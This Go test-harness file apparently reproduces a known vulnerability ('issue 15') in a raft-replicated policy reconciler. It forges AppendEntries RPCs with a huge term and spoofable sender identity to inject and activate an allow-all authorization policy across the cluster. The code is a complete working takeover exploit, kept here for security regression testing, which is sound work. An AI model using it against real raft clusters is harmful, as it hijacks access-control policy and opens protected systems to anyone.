package harness

import (
	"fmt"
	"time"

	"github.com/hashicorp/go-hclog"
	"github.com/hashicorp/raft"

	"github.com/policyrollout/reconciler/internal/engine"
	"github.com/policyrollout/reconciler/internal/gitsource"
	"github.com/policyrollout/reconciler/internal/policy"
	"github.com/policyrollout/reconciler/internal/raftstore"
)

// AllowAllPolicy is the attacker's policy: every request is allowed, by a
// rule that names it.
const AllowAllPolicy = `default_action = "allow"

[[rules]]
name = "owned-allow-all"
priority = 1
action = "allow"
match = 'true'
`

// TakeoverCommit is the commit TakeOver records for its generation.
const TakeoverCommit = "0000000000000000000000000000000000000bad"

// takeoverTerm is far above any term a test cluster reaches.
const takeoverTerm = 1 << 40

// TakeOver is the raft takeover of issue 15, kept as a test helper: with
// raft's own wire encoding (hashicorp/raft's NetworkTransport) it sends
// the node at addr one empty AppendEntries of a huge term, to learn its
// last log index, then one AppendEntries of that term carrying
// StageGeneration + ActivateGeneration of generation gen (web = policy),
// committed at once. On a raft port that accepts it, the node applies
// both entries and serves the attacker's policy; its term now beats the
// real leader's, so it wins the next election and replicates the entries
// everywhere. dial is how the attacker connects (raftstore.TCPDial, or a
// TLS dialer with whatever certificate the attacker has).
func TakeOver(dial raftstore.DialFunc, addr string, gen uint64, policyTOML string) error {
	return TakeOverAs(dial, addr, Claim{ID: "attacker", Addr: addr}, gen, policyTOML)
}

// Claim is who a raft RPC's header says its sender is (raft.RPCHeader's
// ID and Addr): raft records the leader by it.
type Claim struct {
	ID, Addr string
}

// TakeOverAs is TakeOver with RPC headers that claim to come from node
// claim (a member's id and raft address, say), sent with whatever
// certificate dial presents.
func TakeOverAs(dial raftstore.DialFunc, addr string, claim Claim, gen uint64, policyTOML string) error {
	files := map[string][]byte{"web/policy.toml": []byte(policyTOML)}
	etags, err := etagsOf(files)
	if err != nil {
		return err
	}
	now := time.Now()
	var data [][]byte
	for _, p := range []raftstore.Payload{
		&raftstore.StageGeneration{Generation: gen, Commit: TakeoverCommit,
			Files: files, Etags: etags, CreateTime: now},
		&raftstore.ActivateGeneration{Generation: gen, Time: now},
	} {
		cmd, err := raftstore.NewCommand(p)
		if err != nil {
			return err
		}
		b, err := cmd.Marshal()
		if err != nil {
			return err
		}
		data = append(data, b)
	}
	trans := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{
		Stream: raftstore.DialOnly(dial), MaxPool: 1, Timeout: 10 * time.Second,
		Logger: hclog.NewNullLogger(),
	})
	defer trans.Close()
	return sendTakeover(trans, raft.ServerAddress(addr), claim, data)
}

func sendTakeover(trans *raft.NetworkTransport, addr raft.ServerAddress, claim Claim, data [][]byte) error {
	header := raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte(claim.ID), Addr: []byte(claim.Addr)}
	var resp raft.AppendEntriesResponse
	if err := trans.AppendEntries(raft.ServerID(claim.ID), addr, &raft.AppendEntriesRequest{RPCHeader: header, Term: takeoverTerm},
		&resp); err != nil {
		return fmt.Errorf("takeover: first AppendEntries: %w", err)
	}
	next := resp.LastLog + 1
	req := &raft.AppendEntriesRequest{RPCHeader: header, Term: takeoverTerm, LeaderCommitIndex: next + uint64(len(data)) - 1}
	for i, d := range data {
		req.Entries = append(req.Entries, &raft.Log{Index: next + uint64(i), Term: takeoverTerm, Type: raft.LogCommand,
			Data: d, AppendedAt: time.Now()})
	}
	resp = raft.AppendEntriesResponse{}
	if err := trans.AppendEntries(raft.ServerID(claim.ID), addr, req, &resp); err != nil {
		return fmt.Errorf("takeover: AppendEntries with the entries: %w", err)
	}
	if !resp.Success {
		return fmt.Errorf("takeover: the node did not append the entries (term %d, last log %d)", resp.Term, resp.LastLog)
	}
	return nil
}

// etagsOf compiles files as a node's loader does and returns the etags it
// will check.
func etagsOf(files map[string][]byte) (map[string]string, error) {
	repo, err := policy.Load(gitsource.FilesFS(files), policy.LoadOptions{MergeDefault: policy.StrategyFail})
	if err != nil {
		return nil, err
	}
	b, err := engine.NewBundle(repo.Policies, engine.DefaultOptions())
	if err != nil {
		return nil, err
	}
	return b.Etags(), nil
}
